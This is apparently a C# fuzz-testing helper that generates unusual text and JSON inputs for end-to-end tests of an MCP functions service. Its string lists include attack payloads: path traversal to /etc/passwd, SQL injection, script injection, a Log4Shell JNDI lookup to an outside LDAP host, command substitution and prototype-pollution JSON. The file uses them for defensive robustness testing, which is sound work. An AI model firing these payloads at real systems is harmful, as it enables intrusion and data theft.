using System.Globalization;
using System.Text;

namespace McpFunctions.EndToEnd.Tests.Fuzz;

/// <summary>Texts and pieces of JSON that programs often handle wrongly.</summary>
internal static class UnusualInput
{
    private static readonly string[] s_texts =
    [
        "", " ", "\t", "a", "null", "undefined", "true", "NaN", "0", "-1", "-0", "1e999", "1.5", "007", "99999999999999999999", "9007199254740992", "2147483648", "0x10", "१",
        "../../etc/passwd", @"..\..\windows\win.ini", "..", ".", "/", "//", @"\\server\share", "~", "con", "nul.txt", "a/b", "%2e%2e%2f", "%00", "%", "%zz", "%ud800",
        "\r\nSet-Cookie: a=b", "\n", "\0", "a\0b", "\u0001", "\u007f", "\u0085", "\u2028", "\u202e", "\ufeff", "\uffff", "\ufffe", "e\u0301", "ß", "İ", "ı", "ﷺ", "👩‍👩‍👧", "\U0010ffff",
        "' or 1 eq 1 or '", "'; drop table users; --", "\" onload=\"x", "<script>alert(1)</script>", "${jndi:ldap://192.0.2.1/a}", "{{7*7}}", "{0}", "%s%n", "$(id)", "`id`", "a;b|c&d",
        "*", "\"1\"", "W/\"1\"", "\"", "\"a\", \"b\"", "bytes=0-", "bytes=-1", "bytes=5-2", "bytes=0-0,2-3", "bytes=99999999999999999999-", "2026-13-45", "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.999Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-01-17T09:30:00Z", "2026-01-17T09:30:00.1234567+02:00", "2026-01-17", "now",
        "00000000-0000-0000-0000-000000000000", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "{01a2095b-c4b8-7c45-965f-153c92cf17c5}", "01a2095bc4b87c45965f153c92cf17c5", "profile", "file:", "session:x",
        "cHJvZmlsZQ", "ZmlsZTo", "====", "application/json", "application/json; charset=utf-16", "text/plain; charset=\"x", "multipart/form-data; boundary=", "a/b; c=d; c=d", "gzip", "chunked",
    ];

    // Valid JSON, and texts that look like it.
    private static readonly string[] s_json =
    [
        "null", "true", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1e-400", "123456789012345678901234567890123456789012345678901234567890", "9223372036854775808", "01", "+1", ".5", "1.", "NaN", "Infinity",
        "\"\"", "\" \"", "[]", "{}", "[[]]", "[{}]", "[null]", "{\"\":\"\"}", "{\"a\":1,\"a\":2}", "{\"$ref\":\"#\"}", "{\"__proto__\":{\"admin\":true}}", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"",
        "\"\\u202e\"", "\"\\x41\"", "'a'", "\"unterminated", "[1,]", "[1 2]", "{a:1}", "/* comment */ 1", "tru", "\"\t\"",
    ];

    /// <summary>A text.</summary>
    public static string Text(Random random) => random.Next(10) switch
    {
        0 => new string((char)random.Next('a', 'z' + 1), random.Next(1, 3000)),
        1 => Runes(random),
        2 => Text(random) + Text(random),
        _ => s_texts[random.Next(s_texts.Length)],
    };

    /// <summary>A text without characters that end a header.</summary>
    public static string Line(Random random) => new([.. Text(random).Where(character => character is not ('\r' or '\n' or '\0'))]);

    /// <summary>A piece of JSON, sometimes deep or long.</summary>
    public static string Json(Random random) => random.Next(14) switch
    {
        0 => Deep(random, random.Next(1, 80)),
        1 => Deep(random, random.Next(80, 5000)),
        2 => $"\"{new string('x', random.Next(1, 20_000))}\"",
        3 => $"\"{Escape(Text(random))}\"",
        4 => $"[{string.Join(',', Enumerable.Range(0, random.Next(200)).Select(_ => s_json[random.Next(13)]))}]",
        5 => $"{{{string.Join(',', Enumerable.Range(0, random.Next(200)).Select(number => $"\"k{number}\":{number}"))}}}",
        6 => random.NextInt64(long.MinValue, long.MaxValue).ToString(CultureInfo.InvariantCulture),
        _ => s_json[random.Next(s_json.Length)],
    };

    /// <summary>The inside of a JSON string.</summary>
    public static string Escape(string text)
    {
        var escaped = new StringBuilder();
        foreach (var character in text)
        {
            _ = character is '"' or '\\' or < ' ' || char.IsSurrogate(character)
                ? escaped.Append(CultureInfo.InvariantCulture, $"\\u{(int)character:x4}")
                : escaped.Append(character);
        }
        return escaped.ToString();
    }

    private static string Deep(Random random, int levels)
    {
        var isArray = random.Next(2) == 0;
        return string.Concat(Enumerable.Repeat(isArray ? "[" : "{\"a\":", levels)) + "1" + string.Concat(Enumerable.Repeat(isArray ? "]" : "}", levels));
    }

    private static string Runes(Random random)
    {
        var text = new StringBuilder();
        for (var count = random.Next(1, 40); count > 0;)
        {
            if (Rune.TryCreate(random.Next(0x110000), out var rune))
            {
                text.Append(rune.ToString());
                count--;
            }
        }
        return text.ToString();
    }
}
